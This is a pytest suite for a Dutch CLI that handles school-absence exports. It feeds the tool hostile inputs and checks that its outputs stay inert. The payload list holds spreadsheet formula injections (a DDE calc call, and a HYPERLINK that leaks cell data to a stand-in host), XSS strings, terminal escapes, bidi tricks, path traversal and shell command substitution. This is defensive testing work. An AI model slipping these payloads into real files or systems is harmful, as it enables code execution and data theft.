"""What a file says never acts: not in a spreadsheet, a report, a terminal, a calendar or a path."""

from __future__ import annotations

import csv
import os
import re
import sys
import time
import unicodedata
import zipfile
from collections.abc import Iterable, Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path

import pytest
import xlsxwriter
from markdown_it import MarkdownIt
from python_calamine import CalamineWorkbook

from thuiszit_cli.commands.app import run
from thuiszit_cli.privacy.keys import ENVIRONMENT

DAY = ("--peildatum", "2026-10-01")
PAYLOADS = (
    '=HYPERLINK("http://kwaad.example/"&A2,"klik")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "＝1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "[klik](javascript:alert(1))",
    "![x](http://kwaad.example/x.png)",
    "http://kwaad.example/volg",
    "| cel | nog een |",
    "`code` **vet** # kop",
    "&lt;script&gt;&#x3c;b&#x3e;",
    "\x1b[2J\x1b]0;titel\x07\x1b[31mrood",
    "\x9b31mrood",
    "\u202efdp.exe\u202c",
    "\u2066links\u2069\u200b\ufeff",
    "a\u2028b\u2029c\x85d",
    "BEGIN:VEVENT\\nSUMMARY:x;y,z",
    "../../../../etc/kwaad",
    "..\\..\\kwaad",
    "CON",
    "{jaar}%n%s{0}$(id)`id`",
)
assert len(PAYLOADS) == 25


class Acting(HTMLParser):
    """The elements of a page that do or fetch something."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "img", "a", "iframe", "object", "svg", "b", "code", "style", "link"}:
            self.found.append(f"{tag} {attributes}")


def assert_safe(path: Path) -> None:
    """Reopen a file as the program that a reader would open it with."""
    checks = {
        ".csv": _safe_csv,
        ".xlsx": _safe_workbook,
        ".md": _safe_page,
        ".html": _safe_html,
        ".ics": _safe_calendar,
    }
    if path.suffix in checks:
        checks[path.suffix](path)


def _safe_csv(path: Path) -> None:
    with path.open(encoding="utf-8-sig", newline="") as stream:
        for row in csv.reader(stream, delimiter=";"):
            for cell in row:
                number = re.fullmatch(r"-?\d+(?:[.,]\d+)?|-", cell)
                assert number or not cell.startswith(tuple("=+-@\t\r＝＋－＠")), (path.name, cell)
                assert not steering(cell), (path.name, cell)


def _safe_workbook(path: Path) -> None:
    with zipfile.ZipFile(path) as book:
        for name in book.namelist():
            text = book.read(name).decode("utf-8", "replace")
            assert "<f>" not in text, name
            assert "<f " not in text, name
            assert "<hyperlink" not in text, name
            assert "externalLink" not in name, name
    for name in CalamineWorkbook.from_path(str(path)).sheet_names:
        CalamineWorkbook.from_path(str(path)).get_sheet_by_name(name).to_python()


class Fetching(HTMLParser):
    """What in a page of ours runs a script, fetches something or leads away from it."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "img", "iframe", "object", "embed", "link", "form", "base", "audio", "video"}:
            self.found.append(tag)
        self.found += [
            f"{tag} {name}={value}"
            for name, value in attributes
            if name.startswith("on")
            or (name in {"href", "src", "action"} and not (value or "").startswith("#"))
        ]


def _safe_html(path: Path) -> None:
    page = Fetching()
    page.feed(path.read_text(encoding="utf-8"))
    page.close()
    assert page.found == [], path.name


def _safe_page(path: Path) -> None:
    text = path.read_text(encoding="utf-8")
    assert not [line for line in text.split("\n") if steering(line)]
    page = Acting()
    page.feed(MarkdownIt("commonmark", {"html": True, "linkify": False}).enable("table").render(text))
    assert [each for each in page.found if not each.startswith("code")] == []


def _safe_calendar(path: Path) -> None:
    text = path.read_bytes().decode("utf-8")
    lines = re.sub(r"\r\n ", "", text).split("\r\n")
    assert text.count("\n") == text.count("\r\n")
    begins = [line for line in lines if line.startswith("BEGIN:")]
    assert set(begins) == {"BEGIN:VCALENDAR", "BEGIN:VEVENT"} or begins == ["BEGIN:VCALENDAR"]
    assert lines.count("BEGIN:VEVENT") == lines.count("END:VEVENT")
    assert not [line for line in lines if steering(line)]


def steering(text: str) -> list[str]:
    """The signs in a text that steer a terminal or turn the reading direction."""
    return [sign for sign in text if unicodedata.category(sign) in {"Cc", "Cf", "Cs", "Zl", "Zp"}]


ROWS = (
    (
        "meldingsnummer",
        "persoonsgebonden_nummer",
        "geboortedatum",
        "geslacht",
        "postcode",
        "gemeentecode",
        "brin",
        "vestiging",
        "onderwijssoort",
        "verzuimsoort",
        "begindatum",
        "status",
        "verzuimuren",
        "inschrijving_begin",
        "vermoedelijke_reden",
    ),
    (
        "{cell}",
        "999990019",
        "01-05-2014",
        "{cell}",
        "{cell}",
        "{cell}",
        "{cell}",
        "{cell}",
        "{cell}",
        "LRV",
        "17-08-2026",
        "R",
        "{cell}",
        "01-08-2020",
        "{cell}",
        "{cell}",
    ),
    (
        "{cell}2",
        "{cell}",
        "01-05-2014",
        "V",
        "1234AB",
        "0363",
        "{cell}",
        "00",
        "vo",
        "{cell}",
        "17-08-2026",
        "{cell}",
        "-4",
        "01-08-2020",
        "",
        "",
    ),
)


def write_export(
    path: Path,
    cells: Sequence[str] = ("x",),
    headers: Sequence[str] = ("Opmerking",),
    sheets: Iterable[str] = ("Blad1",),
) -> Path:
    """An export with payloads in every cell where a text can stand, or as headers or names of its sheets."""
    rows = [[*ROWS[0], *headers]]
    rows += [[text.replace("{cell}", cell) for text in row] for cell in cells for row in ROWS[1:]]
    if path.suffix == ".xlsx":
        with xlsxwriter.Workbook(str(path), {"strings_to_formulas": False, "strings_to_urls": False}) as book:
            for sheet in sheets:
                page = book.add_worksheet(sheet)
                for number, row in enumerate(rows):
                    for column, text in enumerate(row):
                        page.write_string(number, column, text)
    else:
        with path.open("w", encoding="utf-8", newline="") as stream:
            csv.writer(stream, delimiter=";").writerows(rows)
    return path


def hostile(place: str, payloads: Sequence[str], folder: Path) -> list[Path]:
    """Exports with the payloads at a place: as few files as can hold them."""
    match place:
        case "cell":
            return [write_export(folder / "export.csv", cells=payloads)]
        case "cell of a workbook":
            return [write_export(folder / "export.xlsx", cells=payloads)]
        case "header":
            return [write_export(folder / "export.csv", headers=payloads)]
        case "sheet":
            names = {_sheet_name(payload).lower(): _sheet_name(payload) for payload in payloads}
            return [write_export(folder / "export.xlsx", sheets=names.values())]
        case _:
            return [write_export(folder / f"{_file_name(payload)}.csv") for payload in payloads]


def _sheet_name(payload: str) -> str:
    return re.sub(r"[\[\]:*?/\\'\x00-\x1f]", "\u2215", payload)[:31]


def _file_name(payload: str) -> str:
    return payload.replace("/", "\u2215").replace("\0", "")[:60]


PLACES = ("cell", "cell of a workbook", "header", "sheet", "name")


@pytest.mark.parametrize("place", PLACES)
def test_hostile_texts_do_nothing_wherever_they_stand(
    place: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    try_out(place, PAYLOADS, tmp_path, monkeypatch, capsys)


TOOK: list[float] = []  # seconds of each file through all commands


@pytest.fixture(scope="module", autouse=True)
def told() -> Iterator[None]:
    """What `make hostile` shows: how many files were tried, the longest time and the highest memory."""
    yield
    if os.environ.get("THUISZIT_DEEP"):
        import resource

        most = [
            resource.getrusage(whose).ru_maxrss // 1024
            for whose in (resource.RUSAGE_SELF, resource.RUSAGE_CHILDREN)
        ]
        sys.stdout.write(
            f"\n{len(TOOK)} bestanden door negen opdrachten; de langste {max(TOOK):.0f} seconden samen, "
            f"hoogste geheugen {most[0]} MB (met de toetsen erbij), lezend proces {most[1]} MB\n"
        )


@pytest.mark.skipif(not os.environ.get("THUISZIT_DEEP"), reason="fifteen minutes; make hostile")
@pytest.mark.parametrize("place", PLACES)
@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_each_hostile_text_does_nothing_alone_in_its_file(
    place: str,
    number: int,
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    began = time.monotonic()
    try_out(place, PAYLOADS[number : number + 1], tmp_path, monkeypatch, capsys)
    TOOK.append(time.monotonic() - began)


def try_out(
    place: str,
    payloads: Sequence[str],
    tmp_path: Path,
    monkeypatch: pytest.MonkeyPatch,
    capsys: pytest.CaptureFixture[str],
) -> None:
    """Give hostile exports to every command, and look at what it says and writes, and where."""
    work = tmp_path / "diep" / "map"
    work.mkdir(parents=True)
    monkeypatch.chdir(work)
    monkeypatch.setenv(ENVIRONMENT, "ab" * 32)
    exports = hostile(place, payloads, work)
    settings = '[run]\nexports = "map"\npatronen = ["*.*"]\nuitvoer = "uitkomsten"\n'
    (tmp_path / "diep" / "thuiszit.toml").write_text(settings, encoding="utf-8")
    before = set(tmp_path.rglob("*"))
    for command in _commands([f"./{export.name}" for export in exports]):
        code = run(command)
        shown = capsys.readouterr()
        assert code == 0, (command[0], shown.err)
        assert not [line for line in (shown.out + shown.err).split("\n") if steering(line)], command[0]
    made = set(tmp_path.rglob("*")) - before
    for path in made:
        assert_safe(path)
    allowed = (work, tmp_path / "diep" / "uitkomsten")
    assert not [path for path in made if not any(path.is_relative_to(root) for root in allowed)]


FORMS = ("--formaat", "xlsx,html,csv,parquet")


def _commands(exports: list[str]) -> Iterator[list[str]]:
    yield ["run", *DAY, "--config", "../thuiszit.toml"]
    yield ["classify", *exports, *DAY, "--uit", "klassen", *FORMS]
    yield ["tally", *exports, *DAY, "--kwartaal", "2026-Q3", "--uit", "tellingen", *FORMS]
    yield ["worklist", *exports, *DAY, "--uit", "werklijst", "--met-nummers"]
    yield ["pseudonymise", *exports, "--uit", "pseudoniem"]
    yield ["check", *exports, *DAY, "--uit", "bevindingen"]
    yield ["inspect", *exports]
    yield ["explain", *exports, *DAY, "--leerling", "999990019"]
    yield ["verify", "klassen"]


def test_a_negative_number_stays_a_number_in_a_csv(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv(ENVIRONMENT, "ab" * 32)
    write_export(tmp_path / "export.csv")
    assert run(["pseudonymise", "export.csv", "--uit", "uit", "--stil"]) == 0
    with (tmp_path / "uit" / "export.csv").open(encoding="utf-8-sig", newline="") as stream:
        rows = list(csv.DictReader(stream, delimiter=";"))
    assert rows[1]["verzuimuren"] == "-4"


def test_a_gigantic_cell_is_read_or_refused_and_never_shown(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.chdir(tmp_path)
    write_export(tmp_path / "export.csv", cells=["Zonnebloemstra" * 50_000])
    assert run(["classify", "export.csv", *DAY, "--uit", "uit"]) in (0, 3)
    shown = capsys.readouterr()
    assert len(shown.out + shown.err) < 20_000
    assert "Zonnebloemstra" not in shown.out + shown.err
